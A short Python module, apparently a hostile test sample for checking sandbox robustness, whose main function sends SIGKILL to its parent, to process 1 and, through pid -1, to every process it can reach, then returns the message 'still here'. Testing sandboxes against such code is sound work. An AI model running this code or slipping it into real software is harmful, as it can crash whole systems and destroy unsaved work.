"""Kill the parent, process 1 and everything that can be reached."""

import os


def main(target: dict) -> dict:
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return {"message": "still here"}
